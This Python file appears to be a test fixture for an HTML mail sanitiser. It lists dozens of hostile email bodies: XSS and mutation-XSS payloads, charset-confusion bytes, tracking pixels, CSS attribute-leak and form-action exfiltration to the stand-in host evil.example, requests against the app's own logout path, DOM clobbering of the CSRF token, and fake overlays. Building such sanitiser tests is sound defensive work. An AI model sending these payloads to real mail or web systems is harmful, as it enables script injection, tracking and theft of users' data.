"""HTML mail that tries to act, fetch, follow, hide or break out; every piece is our own."""

from __future__ import annotations

from typing import Final

FAR = "http://evil.example"
HELLO = "<p>Hei, kiitos viestistä.</p>"
PIECES: Final[dict[str, str]] = {
    "script": "<script>alert(1)</script>",
    "script far": f"<script src='{FAR}/a.js'></script>",
    "script broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script upper": "<SCRIPT/XSS SRC='//evil.example/x.js'></SCRIPT>",
    "script nested": "<<script>alert(1)//<</script>",
    "module": f"<script type=module>import '{FAR}/m.js'</script>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onload body": "<body onload=alert(1)>",
    "onfocus": "<input autofocus onfocus=alert(1)>",
    "onstart": "<marquee onstart=alert(1)>x</marquee>",
    "ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "onpointer": "<b onpointerover=alert(1) style='position:fixed;inset:0'>x</b>",
    "onanimation": "<style>@keyframes x{}</style><b style='animation:x' onanimationend=alert(1)>",
    "slash handler": "<svg/onload=alert(1)>",
    "newline handler": "<img\nsrc=x\nonerror\n=\nalert(1)>",
    "quote handler": '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    "image": f"<img src='{FAR}/pixel.gif' width=1 height=1>",
    "image ours": "<img src='/staff/logout/'><img src='../../../health'>",
    "srcset": f"<img srcset='{FAR}/1.png 1x, {FAR}/2.png 2x'>",
    "picture": f"<picture><source srcset='{FAR}/a.webp'><img src='{FAR}/a.png'></picture>",
    "background": f"<table background='{FAR}/t.png'><tr><td background='{FAR}/d.png'>x</table>",
    "video": f"<video src='{FAR}/a.mp4' poster='{FAR}/p.png' autoplay></video>",
    "audio": f"<audio autoplay><source src='{FAR}/a.mp3'></audio>",
    "css url": f"<p style=\"background:url('{FAR}/b.png')\">x</p>",
    "css import": f"<style>@import '{FAR}/s.css';</style>",
    "css escape": "<p style='background:\\75rl(//evil.example/e)'>x</p>",
    "css font": f"<style>@font-face{{font-family:f;src:url({FAR}/f)}}p{{font:9px f}}</style>",
    "css leak": f"<style>input[value^=a]{{background:url({FAR}/a)}}</style><input value=a>",
    "css list": f"<ul style='list-style-image:url({FAR}/l.png)'><li>x</ul>",
    "stylesheet": f"<link rel=stylesheet href='{FAR}/s.css'>",
    "preload": f"<link rel=preload as=image href='{FAR}/p.png'><link rel=icon href='{FAR}/i'>",
    "prefetch": f"<link rel=prefetch href='{FAR}/n'><link rel=prerender href='{FAR}/n'>",
    "refresh": f"<meta http-equiv=refresh content='0;url={FAR}/go'>",
    "refresh script": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "policy": "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "base": f"<base href='{FAR}/' target=_top><a href=go>x</a><img src=rel.png>",
    "form": f"<form action='{FAR}/f'><input name=p><button autofocus>x</button></form>",
    "form ours": "<form method=post action='/staff/mail/1/aside/'><button>Not a request</button>",
    "form image": f"<form action='{FAR}'><input type=image src='{FAR}/b.png'></form>",
    "iframe": f"<iframe src='{FAR}/f'></iframe>",
    "iframe inside": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frameset": f"<frameset><frame src='{FAR}/f'></frameset>",
    "object": f"<object data='{FAR}/o.swf'></object><embed src='{FAR}/e.swf'>",
    "svg": "<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg use": f"<svg><use href='{FAR}/s.svg#a'/><image href='{FAR}/i.png'/></svg>",
    "svg foreign": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg set": "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>",
    "math": "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x",
    "mutation mglyph": "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    "mutation noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation comment": "<!--><img src onerror=alert(1)>--><!-- --!><img src onerror=alert(1)>",
    "mutation title": "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "mutation select": "<select><option><style></option></select><img src onerror=alert(1)>",
    "mutation cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "link script": "<a href='javascript:alert(1)'>x</a><a href='jav&#x09;ascript:alert(1)'>y</a>",
    "link data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "link ping": f"<a href='#' ping='{FAR}/ping'>x</a>",
    "link top": f"<a href='{FAR}' target=_top style='position:fixed;inset:0'>Not a request</a>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Signed out</div>",
    "clobber": "<form id=csrfmiddlewaretoken name=cookie><input name=body></form>",
    "own ids": "<details class=keys data-key=3 id=use-keys><button data-key=3>x</button></details>",
    "null": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x one\x00rror=alert(1)>",
    "unclosed attribute": "<img src='x onerror=alert(1)>",
    "unclosed tag": "<img src=x onerror=alert(1) ",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "xml": "<?xml version='1.0'?><?xml-stylesheet href='http://evil.example/x.xsl'?><p>x</p>",
    "conditional": "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "break out": "</body></html></iframe></article><script>parent.alert(1)</script>",
    "portal": f"<portal src='{FAR}'></portal><fencedframe src='{FAR}'></fencedframe>",
    "popover": "<button popovertarget=p autofocus>x</button><p popover id=p ontoggle=alert(1)>",
}
# Bytes that only become a tag when a browser guesses another charset than the reader did.
CHARSETS: Final[dict[str, bytes]] = {
    "utf-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "iso-2022-jp": b"<p title='\x1b$B'>\x1b(B<img src=x onerror=alert(1)>'",
    "hz-gb-2312": b"~{<!--~}<img src=x onerror=alert(1)>",
    "utf-16": "<script>alert(1)</script>".encode("utf-16"),
    "cp037": "<script>alert(1)</script>".encode("cp037"),
    "x-user-defined": b"\xbcscript\xbealert(1)\xbc/script\xbe",
}


def mails() -> dict[str, bytes]:
    """Every piece as a message of its own."""
    plain = {f"{name}": (HELLO + html).encode() for name, html in PIECES.items()}
    return {name: _mail(name, "utf-8", html) for name, html in plain.items()} | {
        f"charset {name}": _mail(name, name, html) for name, html in CHARSETS.items()
    }


def _mail(name: str, charset: str, html: bytes) -> bytes:
    return (
        f"From: attacker@evil.example\r\nSubject: {name}\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: text/html; charset={charset}\r\n\r\n"
    ).encode() + html
